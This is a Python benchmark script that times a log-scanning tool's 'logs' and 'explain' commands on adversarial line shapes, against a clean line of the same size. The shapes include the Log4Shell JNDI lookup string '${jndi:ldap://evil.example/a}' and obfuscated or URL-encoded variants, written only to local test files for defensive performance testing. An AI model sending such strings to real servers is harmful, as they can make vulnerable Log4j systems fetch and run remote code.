#!/usr/bin/env python3
"""hostile.py -- the cost of hostile line shapes in `defuse logs` and
`defuse explain`, each as a ratio to a clean line of the same size.

Writes one file per shape (one line of SIZE bytes, default 1 MiB) into WORK,
then times, best of RUNS:
  defuse logs --jobs 1 FILE        (wall and CPU of the child)
  defuse explain --json --file FILE (wall, CPU and bytes written), once
and prints a Markdown table; the target of issue 9 is logs <= 5x the clean
line on every shape.

Usage: bench/logs/hostile.py DEFUSE [WORK] [SIZE] [RUNS]
"""
import os
import resource
import subprocess
import sys
import time

PAYLOAD = b"{jndi:ldap://evil.example/a}"


def shapes(size):
    n = size
    q = lambda unit: max(1, n // len(unit))  # noqa: E731
    half = n // 2
    return [
        ("clean", (b"GET /index.html HTTP/1.1 200 Mozilla/5.0 " * q(b"x" * 41))[:n]),
        ("${a}xN $xN {jndi}", b"${a}" * (half // 4) + b"$" * (half // 2) + PAYLOAD),
        ("${ xN (unclosed)", b"${" * (n // 2)),
        ("${ xN }xN (deep)", b"${" * (n // 4) + b"jndi:ldap://x/a" + b"}" * (n // 4)),
        ("$xN {jndi}", b"$" * (n - 40) + PAYLOAD),
        ("$${ xN", b"$${" * (n // 3)),
        ("${::- xN }xN", b"${::-" * (n // 10) + b"j" + b"}" * (n // 10)),
        ("${a} xN", b"${a}" * (n // 4)),
        ("${jndi:...} xN", b"${jndi:ldap://evil.example/a}" * (n // 30)),
        ("${::-$}{jndi} xN", b"${::-x$}{jndi:ldap://e/a}" * (n // 25)),
        ("%24%7B xN", b"%24%7Bjndi:ldap://e/a%7D" * (n // 24)),
        ("$$$${ + ${ xN", b"$$$$${jndi:ldap://e/a}" + b"${" * (n // 2 - 20)),
    ]


def run(cmd, runs):
    best_wall = best_cpu = None
    out_len = 0
    for _ in range(runs):
        r0 = resource.getrusage(resource.RUSAGE_CHILDREN)
        t0 = time.perf_counter()
        p = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
        wall = time.perf_counter() - t0
        r1 = resource.getrusage(resource.RUSAGE_CHILDREN)
        cpu = (r1.ru_utime - r0.ru_utime) + (r1.ru_stime - r0.ru_stime)
        out_len = len(p.stdout)
        best_wall = wall if best_wall is None else min(best_wall, wall)
        best_cpu = cpu if best_cpu is None else min(best_cpu, cpu)
    return best_wall, best_cpu, out_len


def main():
    if len(sys.argv) < 2:
        print(__doc__, file=sys.stderr)
        return 2
    defuse = sys.argv[1]
    work = sys.argv[2] if len(sys.argv) > 2 else "/tmp/defuse-hostile"
    size = int(sys.argv[3]) if len(sys.argv) > 3 else 1 << 20
    runs = int(sys.argv[4]) if len(sys.argv) > 4 else 5
    os.makedirs(work, exist_ok=True)
    rows = []
    for i, (name, data) in enumerate(shapes(size)):
        path = os.path.join(work, "shape%02d.log" % i)
        with open(path, "wb") as f:
            f.write(data + b"\n")
        lw, lc, lo = run([defuse, "logs", "--jobs", "1", path], runs)
        ew, ec, eo = run([defuse, "explain", "--json", "--file", path], 1)
        rows.append((name, len(data), lw, lc, lo, ew, ec, eo))
    clean = rows[0][2]
    print("| shape | bytes | logs wall ms | logs CPU ms | x clean | logs out B | explain wall ms | explain out B |")
    print("|---|---|---|---|---|---|---|---|")
    worst = 0.0
    for name, n, lw, lc, lo, ew, ec, eo in rows:
        ratio = lw / clean
        worst = max(worst, ratio)
        print("| `%s` | %d | %.1f | %.1f | %.1f | %d | %.1f | %d |" % (
            name, n, lw * 1e3, lc * 1e3, ratio, lo, ew * 1e3, eo))
    print("\nworst logs/clean ratio: %.1fx (target <= 5x)" % worst)
    return 0


if __name__ == "__main__":
    sys.exit(main())
